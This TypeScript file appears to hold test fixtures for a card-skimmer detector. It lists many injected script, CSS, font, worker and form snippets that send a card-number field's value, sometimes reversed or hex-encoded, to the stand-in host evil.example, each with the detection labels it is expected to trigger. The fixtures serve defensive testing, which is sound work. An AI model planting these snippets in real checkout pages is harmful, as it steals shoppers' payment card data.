import { number, onKey, type Skimmer, script, served } from "./skimmer.ts";

/** Ways to get it away. */
export const senders: readonly Skimmer[] = [
  {
    name: "by fetch, reversed",
    body: script(onKey("fetch('https://evil.example/r',{method:'POST',mode:'no-cors',body:v.split('').reverse().join('')});")),
    named: [["card-sent", "reversed"]],
  },
  { name: "by a beacon", body: script(onKey("navigator.sendBeacon('https://evil.example/b',v);")), named: [["card-sent", "by beacon"]] },
  {
    name: "by a beacon when the page is left",
    body: script(`addEventListener('pagehide',function(){navigator.sendBeacon('https://evil.example/left',btoa(${number}.value))});`),
    // Whether the browser still tells of what leaves with the page is a race.
    named: [["inline-script", "pagehide"]],
  },
  {
    name: "by a picture, in hex",
    body: script(
      onKey("new Image().src='https://evil.example/'+v.split('').map(function(c){return c.charCodeAt(0).toString(16)}).join('')+'.gif';"),
    ),
    named: [["card-sent", "written hex"]],
  },
  {
    name: "by a WebSocket",
    body: script(`var w=new WebSocket('wss://evil.example/ws');${onKey("w.readyState===1&&w.send(v);")}`),
    named: [["host", "by websocket"]],
  },
  {
    name: "by WebRTC",
    body: script(
      "var p=new RTCPeerConnection({iceServers:[{urls:'turn:evil.example:3478',username:'u',credential:'c'}]});p.createDataChannel('x');p.createOffer().then(function(o){p.setLocalDescription(o)});",
    ),
    named: [["host", "turn:evil.example:3478"]],
  },
  {
    name: "by an address that is looked up",
    body: script(
      onKey(
        "var l=document.createElement('link');l.rel='dns-prefetch';l.href='https://'+v+'.evil.example/';document.head.append(l);l.remove();",
      ),
    ),
    named: [["card-sent", "by preconnect"]],
  },
  {
    name: "by a stylesheet",
    head: '<link rel="stylesheet" href="https://evil.example/s.css">',
    files: served("evil.example/s.css", "input[value^='4']{background:url(https://evil.example/4)}", "text/css"),
    named: [["stylesheet", "https://evil.example/s.css"]],
  },
  {
    name: "by the rules of a style",
    body: "<style>#cc_number{background:url(https://evil.example/css)}</style>",
    named: [["host", "by image"]],
  },
  {
    name: "by a font",
    body: "<style>@font-face{font-family:f;src:url(https://evil.example/f.woff2);unicode-range:U+34}#cc_number{font-family:f}</style>",
    named: [["font", "https://evil.example/f.woff2"]],
  },
  {
    name: "by a form that is sent into a frame",
    body: `<iframe name="hole"></iframe>${script(onKey("if(!window.q){q=1;var f=document.createElement('form');f.method='post';f.target='hole';f.action='https://evil.example/hole';var i=document.createElement('input');i.name='c';i.value=v;f.append(i);document.body.append(f);f.submit();}"))}`,
    named: [
      ["card-sent", "https://evil.example/hole"],
      ["form", "https://evil.example/hole"],
    ],
  },
  {
    name: "by the store's own address",
    body: script(onKey("fetch('/?target=collect',{method:'POST',body:JSON.stringify({a:v.slice(0,8),b:v.slice(8)})});")),
    named: [["card-sent", "split"]],
  },
  {
    name: "digit by digit to a host that is agreed",
    alone: true,
    body: script(
      `${number}.addEventListener('keydown',function(e){if(/^[0-9]$/.test(e.key))fetch('https://stats.example/collect?k='+e.key,{mode:'no-cors',keepalive:true})});`,
    ),
    named: [
      ["card-sent", "piece by piece"],
      ["card-read", "keydown"],
    ],
  },
  {
    name: "by a worker",
    body: script("new Worker(URL.createObjectURL(new Blob([\"fetch('https://evil.example/w',{mode:'no-cors'})\"])));"),
    named: [
      ["host", "https://evil.example/w"],
      ["worker", "blob:"],
    ],
  },
  {
    name: "by a service worker",
    alone: true,
    everywhere: script("navigator.serviceWorker.register('/sw.js');"),
    files: served(
      "/sw.js",
      "self.addEventListener('install',function(){self.skipWaiting()});self.addEventListener('activate',function(e){e.waitUntil(clients.claim())});",
    ),
    named: [["worker", "/sw.js"]],
  },
  {
    name: "by a window that pops up",
    body: script("setTimeout(function(){window.open('https://evil.example/pop')},1000);"),
    named: [["host", "https://evil.example/pop"]],
  },
];
